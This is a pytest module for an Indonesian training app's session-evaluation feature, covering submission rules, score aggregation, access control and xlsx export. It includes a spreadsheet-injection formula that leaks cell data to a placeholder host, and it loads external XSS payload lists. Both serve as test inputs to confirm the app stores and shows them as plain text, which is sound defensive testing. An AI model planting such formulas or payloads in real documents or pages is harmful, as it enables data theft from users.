"""Evaluasi penyelenggaraan dan narasumber: who may fill it in and until when, one row under a
double submit, the figures trainers see, comments shown as text, and the xlsx read back."""

import io
import re
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from bimtek.accounts.models import User
from bimtek.attendance import codes
from bimtek.attendance import service as attendance_service
from bimtek.attendance.models import Attendance, SessionInvite, TrainingSession
from bimtek.evaluation import queries, service
from bimtek.evaluation.items import (
    COMMENT_MAX,
    ITEMS,
    SCALE,
    clean_comment,
    field_name,
    items_of,
    mean_of,
)
from bimtek.evaluation.models import Evaluation, EvaluationAnswer
from bimtek.extensions import db
from bimtek.timeutil import utcnow
from tests.conftest import CORPUS, CSRF_RE, twin

PASSWORD = "awal-rahasia-1"
MATERI = [i.key for i in items_of("materi")]
NARASUMBER = [i.key for i in items_of("narasumber")]
PENYELENGGARAAN = [i.key for i in items_of("penyelenggaraan")]


# ---- fixtures (this module's own) ----------------------------------------------------------


@pytest.fixture
def people(make_peserta, make_staff):
    return {
        "pps": make_peserta("Sitti Aminah", badan="PPS"),
        "pps2": make_peserta("Budi Santoso", badan="PPS"),
        "pps3": make_peserta("Wa Ode Nurul", badan="PPS"),
        # Masamba (73.22.03): outside a Malangke-only session
        "luar": make_peserta("Orang Luar", badan="PPS", kecamatan="73.22.03", desa="73.22.03.1001"),
        "pelatih": make_staff("pelatih", "pelatih1", "rahasia-pelatih-1", nama="Andi Narasumber"),
        "pelatih2": make_staff("pelatih", "pelatih2", "rahasia-pelatih-2", nama="Besse Pemateri"),
        "pelatih3": make_staff("pelatih", "pelatih3", "rahasia-pelatih-3", nama="Orang Lain"),
    }


@pytest.fixture
def session_id(app, course_id, people):
    """A session started five minutes ago, run by two trainers, for PPS in Malangke."""
    with app.app_context():
        admin = db.session.scalars(select(User).where(User.username == "admin1")).one()
        start = utcnow() - timedelta(minutes=5)
        session = attendance_service.save_session(
            None,
            attendance_service.SessionData(
                course_id=course_id,
                title="Hari 1 Kecamatan Malangke",
                venue="Aula Kantor Camat",
                starts_at=start,
                ends_at=start + timedelta(hours=3),
                invite_badan=["PPS"],
                invite_kecamatan=["73.22.01"],
                trainer_ids=[people["pelatih"], people["pelatih2"]],
            ),
            admin,
        )
        db.session.commit()
        return session.id


def mark(app, session_id, user_ids, status="hadir", reason=None):
    with app.app_context():
        session = db.session.get(TrainingSession, session_id)
        admin = db.session.scalars(select(User).where(User.username == "admin1")).one()
        attendance_service.mark(session, admin, list(user_ids), status, reason, utcnow())
        db.session.commit()


def shift_session(app, session_id, ended_ago: timedelta):
    """Move the session so that it ended `ended_ago` before now."""
    with app.app_context():
        end = utcnow() - ended_ago
        db.session.execute(
            update(TrainingSession)
            .where(TrainingSession.id == session_id)
            .values(starts_at=end - timedelta(hours=3), ends_at=end)
        )
        db.session.commit()


def nik_of(app, user_id):
    with app.app_context():
        return db.session.get(User, user_id).nik


def trainer_ids(people):
    return [people["pelatih"], people["pelatih2"]]


def form_data(trainers, score=4, scores=None, comment=""):
    """Every item answered with `score`, except the field names given in `scores`."""
    data = {}
    for item in ITEMS:
        for trainer_id in trainers if item.per_trainer else [None]:
            data[field_name(item, trainer_id)] = str(score)
    data.update({k: str(v) for k, v in (scores or {}).items()})
    data["comment"] = comment
    return data


def evaluations(app, session_id):
    with app.app_context():
        return db.session.scalar(
            select(func.count()).select_from(Evaluation).where(Evaluation.session_id == session_id)
        )


def stored_answers(app, session_id, user_id):
    with app.app_context():
        return {
            (a.item_key, a.trainer_id): a.score
            for a in db.session.scalars(
                select(EvaluationAnswer)
                .join(Evaluation)
                .where(Evaluation.session_id == session_id, Evaluation.user_id == user_id)
            )
        }


def submit_direct(app, session_id, user_id, answers, comment=""):
    with app.app_context():
        session = db.session.get(TrainingSession, session_id)
        user = db.session.get(User, user_id)
        service.submit(session, user, answers, comment, utcnow(), 24)
        db.session.commit()


def answers_for(trainers, material, per_trainer, organisation):
    """Build the service's answer dict: per_trainer maps trainer id → three scores."""
    answers = {(k, None): s for k, s in zip(MATERI, material, strict=True)}
    answers |= {(k, None): s for k, s in zip(PENYELENGGARAAN, organisation, strict=True)}
    for trainer_id in trainers:
        answers |= {
            (k, trainer_id): s for k, s in zip(NARASUMBER, per_trainer[trainer_id], strict=True)
        }
    return answers


# ---- the item registry and comment cleaning (no app) --------------------------------------


def test_items_scale_mean_and_comment_cleaning():
    assert [len(items_of(g)) for g in ("materi", "narasumber", "penyelenggaraan")] == [3, 3, 3]
    assert SCALE[1] == "Sangat kurang" and SCALE[5] == "Sangat baik"
    assert mean_of({1: 0, 2: 1, 3: 0, 4: 1, 5: 1}) == pytest.approx(11 / 3)
    assert mean_of(dict.fromkeys(range(1, 6), 0)) is None
    dirty = "Bagus\r\nsekali\x00\x07\x1b[31m\u202eevil\u202c\tya\x85 "
    assert clean_comment(dirty) == "Bagus\nsekali[31mevil ya"
    assert clean_comment("  \n  ") == "" and clean_comment(None) == ""


# ---- who may fill it in, and until when -------------------------------------------------


def test_present_participant_fills_in_after_check_in_and_edits_until_the_session_closes(
    app, client, auth, post_form, session_id, people
):
    auth.login(nik_of(app, people["pps"]), PASSWORD)
    with app.app_context():
        s = db.session.get(TrainingSession, session_id)
        code = codes.code_for(s.secret, s.id, codes.window_of(utcnow(), 45))
    response = post_form(
        client,
        "/hadir",
        {"kode": code, "session_id": str(session_id), "via": ""},
        form_page=f"/hadir?s={session_id}",
    )
    assert response.status_code == 302
    after = client.get(response.headers["Location"]).get_data(as_text=True)
    assert f'href="/sesi/{session_id}/evaluasi">Isi evaluasi</a>' in after
    assert "Isi evaluasi" in client.get("/sesi").get_data(as_text=True)

    page = client.get(f"/sesi/{session_id}/evaluasi").get_data(as_text=True)
    assert "Evaluasi dapat diisi dan diubah sampai" in page
    assert "Narasumber: Andi Narasumber" in page and "Narasumber: Besse Pemateri" in page
    assert page.count('type="radio"') == 5 * (3 + 3 * 2 + 3)
    path = f"/sesi/{session_id}/evaluasi"
    first = form_data(trainer_ids(people), 4, {"materi_relevansi": 5}, "Materi bagus.")
    response = post_form(client, path, first)
    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Terima kasih, evaluasi Anda tersimpan." in page
    assert 'name="materi_relevansi" value="5" checked' in page
    assert "Materi bagus." in page and "Simpan perubahan" in page

    # edited before it closes: same row, new answers
    second = form_data(trainer_ids(people), 3, {"materi_relevansi": 1}, "Diubah.")
    response = post_form(client, path, second)
    assert response.status_code == 302
    assert "Evaluasi Anda diperbarui." in client.get(path).get_data(as_text=True)
    assert evaluations(app, session_id) == 1
    answers = stored_answers(app, session_id, people["pps"])
    assert answers[("materi_relevansi", None)] == 1
    assert answers[("narasumber_penyampaian", people["pelatih2"])] == 3
    assert len(answers) == 3 + 3 * 2 + 3
    assert "Ubah evaluasi" in client.get("/sesi").get_data(as_text=True)

    # ended 23 hours ago: still inside the 24-hour grace
    shift_session(app, session_id, timedelta(hours=23))
    assert post_form(client, path, form_data(trainer_ids(people), 5)).status_code == 302
    # ended 25 hours ago: closed; the stored answers stay and are shown read-only
    shift_session(app, session_id, timedelta(hours=25))
    refused = post_form(client, path, form_data(trainer_ids(people), 2, comment="telat"))
    assert refused.status_code == 409
    refused_page = refused.get_data(as_text=True)
    assert "sudah ditutup" in refused_page and "telat" not in refused_page
    assert 'value="5" checked' in refused_page and 'value="2" checked' not in refused_page
    answers = stored_answers(app, session_id, people["pps"])
    assert set(answers.values()) == {5}
    page = client.get(path).get_data(as_text=True)
    assert "Evaluasi sesi ini sudah ditutup" in page and "Simpan perubahan" not in page
    assert "disabled" in page
    assert "evaluasi" not in client.get("/sesi").get_data(as_text=True).lower()


def test_the_grace_period_is_a_setting(app, client, auth, post_form, session_id, people):
    app.config["BIMTEK_EVALUATION_GRACE_HOURS"] = 1
    mark(app, session_id, [people["pps"]])
    shift_session(app, session_id, timedelta(hours=2))
    auth.login(nik_of(app, people["pps"]), PASSWORD)
    path = f"/sesi/{session_id}/evaluasi"
    assert post_form(client, path, form_data(trainer_ids(people))).status_code == 409
    assert evaluations(app, session_id) == 0
    # nobody rated: the results page and the daftar hadir's sheet still make sense
    auth.logout()
    auth.login("admin1", "rahasia-admin-1")
    page = client.get(f"/sesi/{session_id}/evaluasi/hasil").get_data(as_text=True)
    assert "0</strong> dari 1 peserta hadir mengisi" in page and "Belum ada komentar." in page
    sheet = load_workbook(io.BytesIO(client.get(f"/sesi/{session_id}/daftar-hadir.xlsx").data))
    assert "Responden: 0 dari 1 peserta hadir" in [r[0] for r in _rows(sheet["Evaluasi"])]


def test_only_present_invitees_may_submit(
    app, client, auth, post_form, session_id, people, make_peserta
):
    mark(app, session_id, [people["pps2"]], "alpa")
    mark(app, session_id, [people["pps3"]], "izin", "Sakit keluarga")
    path = f"/sesi/{session_id}/evaluasi"
    data = form_data(trainer_ids(people))
    # invited, but alpa / izin / not recorded at all
    for who in ("pps2", "pps3", "pps"):
        auth.login(nik_of(app, people[who]), PASSWORD)
        page = client.get(path)
        assert page.status_code == 403
        assert "hanya dapat diisi oleh peserta yang tercatat hadir" in page.get_data(as_text=True)
        assert 'type="radio"' not in page.get_data(as_text=True)  # no form to send
        assert post_form(client, path, data, form_page="/sesi").status_code == 403
        auth.logout()
    # not invited (another kecamatan): the session is not theirs
    auth.login(nik_of(app, people["luar"]), PASSWORD)
    assert client.get(path).status_code == 404
    assert post_form(client, path, data, form_page="/sesi").status_code == 404
    assert client.get("/sesi/999999/evaluasi").status_code == 404
    auth.logout()
    # staff do not fill it in
    auth.login("pelatih1", "rahasia-pelatih-1")
    assert client.get(path).status_code == 403
    assert post_form(client, path, data, form_page="/sesi").status_code == 403
    auth.logout()
    assert evaluations(app, session_id) == 0

    # present, but an incomplete or out-of-range form is refused without a row
    mark(app, session_id, [people["pps"]], "terlambat")
    auth.login(nik_of(app, people["pps"]), PASSWORD)
    incomplete = dict(data)
    del incomplete[field_name(items_of("narasumber")[1], people["pelatih2"])]
    response = post_form(client, path, incomplete)
    assert response.status_code == 400
    assert "Pilih salah satu nilai." in response.get_data(as_text=True)
    assert post_form(client, path, {**data, "materi_manfaat": "6"}).status_code == 400
    too_long = {**data, "comment": "x" * (COMMENT_MAX + 1)}
    assert post_form(client, path, too_long).status_code == 400
    assert evaluations(app, session_id) == 0
    assert post_form(client, path, data).status_code == 302
    assert evaluations(app, session_id) == 1


def test_a_double_submit_keeps_one_evaluation(
    app, client, auth, post_form, session_id, people, at_once
):
    mark(app, session_id, [people["pps"]])
    auth.login(nik_of(app, people["pps"]), PASSWORD)
    path = f"/sesi/{session_id}/evaluasi"
    token = CSRF_RE.search(client.get(path).get_data(as_text=True)).group(1)
    other = twin(app, client)
    low = {"csrf_token": token, **form_data(trainer_ids(people), 2, comment="dua")}
    high = {"csrf_token": token, **form_data(trainer_ids(people), 5, comment="lima")}
    results = at_once(lambda: client.post(path, data=low), lambda: other.post(path, data=high))
    assert [r.status_code for r in results] == [302, 302]
    assert evaluations(app, session_id) == 1
    answers = stored_answers(app, session_id, people["pps"])
    assert len(answers) == 3 + 3 * 2 + 3
    assert set(answers.values()) in ({2}, {5})  # one submission whole, never a mix
    with app.app_context():
        comment = db.session.scalar(select(Evaluation.comment))
    assert comment == {2: "dua", 5: "lima"}[next(iter(answers.values()))]


# ---- results ------------------------------------------------------------------------------


@pytest.fixture
def rated(app, session_id, people, make_peserta):
    """Three respondents with known scores, one present participant who did not respond, and
    one who responded and was then marked alpa (not counted)."""
    a, b = people["pelatih"], people["pelatih2"]
    p4 = make_peserta("Tidak Mengisi", badan="PPS")
    p5 = make_peserta("Kode Diteruskan", badan="PPS")
    with app.app_context():
        session = db.session.get(TrainingSession, session_id)
        attendance_service.sync_invites(session)
        db.session.commit()
    mark(app, session_id, [people["pps"], people["pps2"], people["pps3"], p4, p5])
    submit_direct(
        app,
        session_id,
        people["pps"],
        answers_for([a, b], [5, 4, 5], {a: [5, 5, 5], b: [2, 2, 2]}, [4, 4, 4]),
        "Waktu istirahat terlalu singkat.",
    )
    submit_direct(
        app,
        session_id,
        people["pps2"],
        answers_for([a, b], [4, 4, 4], {a: [4, 4, 4], b: [3, 3, 3]}, [3, 5, 4]),
    )
    submit_direct(
        app,
        session_id,
        people["pps3"],
        answers_for([a, b], [2, 4, 3], {a: [3, 3, 4], b: [1, 1, 1]}, [2, 5, 4]),
        '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    )
    submit_direct(
        app,
        session_id,
        p5,
        answers_for([a, b], [1, 1, 1], {a: [1, 1, 1], b: [5, 5, 5]}, [1, 1, 1]),
        "tidak dihitung",
    )
    mark(app, session_id, [p5], "alpa")
    return session_id


def test_means_and_distributions_per_item_and_per_narasumber(app, rated, people):
    with app.app_context():
        r = queries.results(db.session.get(TrainingSession, rated))
    assert (r.respondents, r.present) == (3, 4)
    relevansi = r.material[0]
    assert relevansi.item.key == "materi_relevansi"
    assert relevansi.counts == {1: 0, 2: 1, 3: 0, 4: 1, 5: 1}
    assert relevansi.mean == pytest.approx(11 / 3)
    assert [x.mean for x in r.material[1:]] == pytest.approx([4.0, 4.0])
    by_name = {t.trainer.nama: t for t in r.trainers}
    assert list(by_name) == ["Andi Narasumber", "Besse Pemateri"]
    andi, besse = by_name["Andi Narasumber"], by_name["Besse Pemateri"]
    assert andi.respondents == 3 and andi.mean == pytest.approx(37 / 9)
    assert besse.respondents == 3 and besse.mean == pytest.approx(2.0)
    assert andi.items[2].counts == {1: 0, 2: 0, 3: 0, 4: 2, 5: 1}
    assert besse.items[0].counts == {1: 1, 2: 1, 3: 1, 4: 0, 5: 0}
    assert [x.mean for x in r.organisation] == pytest.approx([3.0, 14 / 3, 4.0])
    assert [c.text for c in r.comments] == [
        "Waktu istirahat terlalu singkat.",
        '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    ]


def test_results_page_for_the_sessions_trainers_and_admin_only(
    app, client, auth, post_form, rated, people
):
    path = f"/sesi/{rated}/evaluasi/hasil"
    auth.login("pelatih2", "rahasia-pelatih-2")
    page = client.get(path).get_data(as_text=True)
    assert "3</strong> dari 4 peserta hadir mengisi" in page
    text = re.sub(r"<[^>]+>", " ", page)
    # Indonesian decimals, one place: 11/3 → 3,7; Andi 37/9 → 4,1; Besse 2,0
    assert re.search(r"Materi sesuai dengan tugas saya\s+3\s+3,7\s+0\s+1\s+0\s+1\s+1", text)
    assert "4,1 rata-rata Andi Narasumber" in " ".join(text.split())
    assert "2,0 rata-rata Besse Pemateri" in " ".join(text.split())
    assert "Waktu istirahat terlalu singkat." in page and "tidak dihitung" not in page
    assert "Sitti Aminah" not in page  # comments and ratings are shown without names
    session_page = client.get(f"/sesi/{rated}").get_data(as_text=True)
    assert "3 dari 4 peserta hadir sudah mengisi evaluasi." in session_page
    auth.logout()

    auth.login("pelatih3", "rahasia-pelatih-3")  # a trainer of other sessions
    assert client.get(path).status_code == 404
    assert client.get(f"/sesi/{rated}/evaluasi.xlsx").status_code == 404
    auth.logout()
    auth.login(nik_of(app, people["pps"]), PASSWORD)
    assert client.get(path).status_code == 403
    assert client.get(f"/sesi/{rated}/evaluasi.xlsx").status_code == 403
    auth.logout()
    auth.login("admin1", "rahasia-admin-1")
    assert client.get(path).status_code == 200
    assert client.get("/sesi/999999/evaluasi/hasil").status_code == 404


def _payloads() -> list[str]:
    lines = []
    for name in ("xss_polyglots.txt", "xss_rsnake.txt", "xss_brutelogic_strings.txt"):
        lines += [line for line in (CORPUS / name).read_text().splitlines() if line.strip()]
    assert len(lines) > 150, "shared/security-corpus is missing or was truncated"
    return lines


class CommentReader(HTMLParser):
    """The text of each <li class="comment"> and every tag found inside one."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.comments: list[str] = []
        self.tags_inside: list[str] = []
        self._in = False

    def handle_starttag(self, tag, attrs):
        if self._in:
            self.tags_inside.append(tag)
        elif tag == "li" and ("class", "comment") in attrs:
            self._in = True
            self.comments.append("")

    def handle_endtag(self, tag):
        if tag == "li":
            self._in = False

    def handle_data(self, data):
        if self._in:
            self.comments[-1] += data


def test_comments_with_xss_payloads_are_shown_as_text(
    app, client, auth, post_form, session_id, people
):
    # The corpus packed into comments of at most 1,000 characters, one per participant.
    chunks, current = [], ""
    for payload in _payloads():
        payload = payload[:COMMENT_MAX]
        if current and len(current) + 1 + len(payload) > COMMENT_MAX:
            chunks.append(current)
            current = ""
        current = f"{current}\n{payload}" if current else payload
    chunks.append(current)
    with app.app_context():
        session = db.session.get(TrainingSession, session_id)
        users = [
            User(
                nama=f"Peserta {i}",
                nik=f"73220199{i:08d}",
                role="peserta",
                badan="PPS",
                kecamatan_kode="73.22.01",
                password_hash="-",
                must_change_password=False,
            )
            for i in range(len(chunks))
        ]
        db.session.add_all(users)
        db.session.flush()
        for user in users:
            db.session.add(SessionInvite(session_id=session.id, user_id=user.id, by_rule=False))
            db.session.add(
                Attendance(
                    session_id=session.id,
                    user_id=user.id,
                    status="hadir",
                    method="manual",
                    checked_in_at=utcnow(),
                )
            )
        db.session.flush()
        answers = answers_for(
            trainer_ids(people), [4, 4, 4], dict.fromkeys(trainer_ids(people), [4, 4, 4]), [4] * 3
        )
        for user, chunk in zip(users, chunks, strict=True):
            service.submit(session, user, answers, chunk, utcnow(), 24)
        db.session.commit()
    auth.login("pelatih1", "rahasia-pelatih-1")
    page = client.get(f"/sesi/{session_id}/evaluasi/hasil").get_data(as_text=True)
    reader = CommentReader()
    reader.feed(page)
    assert reader.tags_inside == []  # no payload became an element
    assert reader.comments == [clean_comment(c) for c in chunks]  # every one shown, as typed
    assert "<script>alert" not in page.lower()


# ---- xlsx ---------------------------------------------------------------------------------


def _rows(ws):
    return [tuple(c.value for c in row) for row in ws.iter_rows()]


def test_evaluation_xlsx_and_the_daftar_hadir_sheet_read_back(app, client, auth, rated, people):
    auth.login("pelatih1", "rahasia-pelatih-1")
    standalone = client.get(f"/sesi/{rated}/evaluasi.xlsx")
    assert standalone.status_code == 200
    assert "evaluasi-sesi-" in standalone.headers["Content-Disposition"]
    daftar = client.get(f"/sesi/{rated}/daftar-hadir.xlsx?kecamatan=73.22.01")
    assert daftar.status_code == 200
    daftar_wb = load_workbook(io.BytesIO(daftar.data))
    assert daftar_wb.sheetnames == ["Daftar hadir", "Evaluasi"]
    for ws in (load_workbook(io.BytesIO(standalone.data))["Evaluasi"], daftar_wb["Evaluasi"]):
        rows = _rows(ws)
        flat = [v for row in rows for v in row if v is not None]
        assert "Responden: 3 dari 4 peserta hadir" in flat
        by_item = {(r[1], r[2]): r for r in rows if r[0] in ("Materi", "Narasumber")}
        relevansi = by_item[(None, "Materi sesuai dengan tugas saya")]
        assert relevansi[3:] == (3, pytest.approx(11 / 3), 0, 1, 0, 1, 1)
        tanya = by_item[("Andi Narasumber", "Menjawab pertanyaan peserta")]
        assert tanya[3:] == (3, pytest.approx(13 / 3), 0, 0, 0, 2, 1)
        summary = [r for r in rows if r[1] == "Besse Pemateri" and r[2] == 3]
        assert summary and summary[0][3] == pytest.approx(2.0)
        comment = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
        cell = next(c for row in ws.iter_rows() for c in row if c.value == comment)
        assert cell.data_type == "s"  # text, not a formula
        assert "Waktu istirahat terlalu singkat." in flat
        assert "tidak dihitung" not in flat
